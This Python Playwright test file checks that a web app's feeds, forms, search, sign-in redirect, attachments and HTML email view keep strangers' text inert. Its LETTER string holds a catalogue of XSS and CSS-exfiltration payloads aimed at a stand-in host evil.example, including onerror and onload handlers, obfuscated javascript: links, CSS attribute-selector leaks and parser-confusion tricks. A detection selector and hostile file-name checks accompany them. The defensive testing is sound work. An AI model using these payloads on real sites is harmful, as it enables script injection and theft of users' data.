"""Whatever strangers write, wherever it is shown: it is words. Nothing of it runs, asks another host or becomes a part of the page.

Every window is watched: a script's error, a broken policy or a request to somebody else fails the test by itself."""

import os
import re
import urllib.parse

from playwright.sync_api import Page, expect

from company import MARIA, Company
from feed import open_card
from hostile import FILES, RUNS, SHORT, WORDS, Stranger
from letters import deliver, letter
from places import PHONE, addresses, furnish

# Parts no page of ours has: they came out of somebody's words. A written address may be a link, and nothing else.
FOREIGN = """() => [...document.querySelectorAll(
    "[onerror],[onload],[onfocus],[ontoggle],[onclick],iframe[srcdoc],base,object,embed,:not(a)[href*='evil.example'],[src*='evil.example']," +
    "[action*='evil.example'],[href^='javascript:' i],[src^='javascript:' i],[action^='javascript:' i],math,.cards style,main style," +
    "a[href*='evil.example']:not([rel~=noopener])")]
    .map((element) => element.outerHTML.slice(0, 160))"""


def is_whole(page: Page) -> list[str]:
    """What of somebody's words became more than words on this page."""
    found = page.evaluate(FOREIGN)
    taken = page.evaluate("() => [window.taken, document.title === 'taken' || undefined].filter((one) => one !== undefined)")
    cookies = [cookie["name"] for cookie in page.context.cookies() if cookie["name"] == "taken"]
    return found + [f"ran: {one}" for one in taken] + cookies


# Where names and words of strangers stand; by hand with KINDRED_EVERY_PAGE all others too.
NAMING = {"feed", "home", "events", "contact", "api channel", "on duty", "report by page", "report of a year", "costs", "templates compared", "everything",
          "saved views", "notices", "channels", "products", "webhooks", "teams", "company", "responsibility/new", "tags", "templates", "targets",
          "channels/new?kind=telephone", "audit"}


def test_on_every_page(company: Company):
    furnish(company)
    paths = addresses(company)
    stranger = Stranger(company)
    watched = company.page(MARIA)
    stranger.everywhere()
    # Rows that came while the page was open are drawn by its script.
    expect(watched.locator(".cards .card").filter(has_text="And these")).to_be_visible()
    assert is_whole(watched) == []
    assert len(stranger.cards) >= len(WORDS), stranger.refused
    watched.close()
    stranger.answers()

    page = company.page(MARIA)
    company.watch(page).expect("404|410")
    slips = {}
    query = urllib.parse.quote(WORDS[1])
    if "KINDRED_EVERY_PAGE" not in os.environ:
        paths = {name: path for name, path in paths.items() if name in NAMING}
    more = {f"card {card}": f"/feed/everything/{card}" for card in (stranger.cards if "KINDRED_EVERY_PAGE" in os.environ else stranger.cards[::3])} | {
        "searched": f"/feed/everything?q={query}", "no such tag": f"/feed/open?tag={query}&channel={query}&state={query}",
        "report of a page": f"/report?by={query}&page={query}", "events of": f"/events?on={query}&kind={query}",
        "found contacts": f"/contacts?q={query}", "said done": f"/settings/profile?done={query}", "way on": f"/sign-in?next={query}"}
    for name, path in (paths | more).items():
        page.goto(company.address + path)
        if found := is_whole(page):
            slips[name] = found
    assert slips == {}


def test_in_a_form_and_a_palette(company: Company):
    query = urllib.parse.quote(WORDS[1])
    page = company.page(None, f"/f/{company.form.rpartition('/')[2]}?name={query}&text={query}&title={query}&page=javascript:{RUNS}", **PHONE)
    assert is_whole(page) == []
    page = company.page(MARIA)
    page.keyboard.press("Control+k")
    page.keyboard.type(SHORT)
    assert is_whole(page) == []
    page.goto(company.address + "/sign-in?next=" + urllib.parse.quote(f"javascript:{RUNS}"))
    assert is_whole(page) == [] and page.locator("[name=next][value^=javascript]").count() == 0


def test_files_are_kept_and_never_run(company: Company):
    stranger = Stranger(company)
    stranger.everywhere()
    page = company.page(MARIA)
    names = []
    for author in ("And these", "See the files"):
        page.goto(company.address + "/feed/everything")
        page.locator(".cards .card").filter(has_text=author).first.get_by_role("link").first.click()
        page.locator("a[href^='/attachments/']").first.wait_for()
        for address in {link.get_attribute("href") for link in page.locator("a[href^='/attachments/']").all()}:
            answer = page.request.get(company.address + address)
            said = answer.headers["content-disposition"]
            assert answer.headers["x-content-type-options"] == "nosniff" and "taken" not in answer.headers.get("set-cookie", "")
            name = urllib.parse.unquote(re.search(r"filename\*=UTF-8''([^;]+)", said, re.IGNORECASE).group(1)) if "filename*" in said \
                else re.search(r'filename="([^"]*)"', said).group(1)
            assert not re.search(r'[/\\"\r\n\x00-\x1f]', name), name
            assert name.strip(" .\u200b") != "", name
            if answer.headers["content-type"].split(";")[0] in ("text/html", "image/svg+xml", "application/xhtml+xml"):
                assert said.startswith("attachment") and "sandbox" in answer.headers["content-security-policy"], (name, answer.headers)
            names.append(name)
    assert len(names) >= len(FILES) - 2, names
    kept = {path.name for path in company.program.data.rglob("*") if path.is_file()}
    assert not any(".htaccess" in name or "taken" in name or name == "CON" for name in kept), "names become no paths"
    assert is_whole(page) == []


LETTER = f"""<html><head><style>input[value^="a"]{{background:url(https://evil.example/a)}} @import "https://evil.example/y.css";
.letter-frame, body, .pane {{ position:fixed; inset:0; z-index:9999; background:url(https://evil.example/z) }}</style></head>
<body onload="{RUNS}"><p>Dear Ms Lindqvist, please.</p>
<p style="background-image:url(https://evil.example/s);width:expression({RUNS});-moz-binding:url(https://evil.example/b)">styled</p>
<svg><use href="https://evil.example/u#x"/><a xlink:href="javascript:{RUNS}"><text y="20">svg</text></a><animate attributeName=href values="javascript:{RUNS}"/></svg>
<math><maction actiontype="statusline" xlink:href="javascript:{RUNS}">m</maction></math>
<a href=" &#1;j&#97;va\tscript:{RUNS}">one</a> <a href="data:text/html,<script>{RUNS}</script>">two</a> <a href="vbscript:x">three</a>
<img srcset="https://evil.example/set 1x" alt=a><picture><source srcset="https://evil.example/p"></picture><video poster="https://evil.example/v"></video>
<input type=image src="https://evil.example/i"><button formaction="javascript:{RUNS}">b</button><noscript><p title="</noscript><img src=x onerror={RUNS}>"></noscript>
<template><script>{RUNS}</script></template><xmp><img src=x onerror={RUNS}></xmp><!--><img src=x onerror={RUNS}>--><![CDATA[<img src=x onerror={RUNS}>]]>
<table background="https://evil.example/t"><tr><td>cell</td></tr></table></body></html>"""


def test_in_letters(company: Company):
    author = "Katrin" + SHORT
    message = letter(LETTER, subject=WORDS[3])
    for name in FILES:
        if "\r" not in name:
            message.add_attachment(b"x", "application", "octet-stream", filename=name)
    deliver(company, author, message)
    page = company.page(MARIA)
    card = open_card(page, author)
    card.get_by_text("Formatted").click()
    frame = page.frame_locator("iframe.letter-frame")
    expect(frame.locator("p").first).to_contain_text("Dear Ms Lindqvist")
    assert frame.locator("script,svg,math,form,input,button,video,object,link,base,template,iframe,[style*='evil'],[background]").count() == 0
    # `about:` and `#` lead nowhere; what leads somewhere says where.
    assert [link for link in frame.locator("a[href]").all() if not re.match(r"https?://|mailto:|tel:|#", link.get_attribute("href"))] == []
    card.get_by_text("Details", exact=True).click()
    assert is_whole(page) == []
    box = page.locator("iframe.letter-frame").bounding_box()
    cover = frame.locator("body").evaluate("(body) => getComputedStyle(body).position")
    assert cover == "static" and box["width"] <= page.viewport_size["width"], "a letter stays in its place"
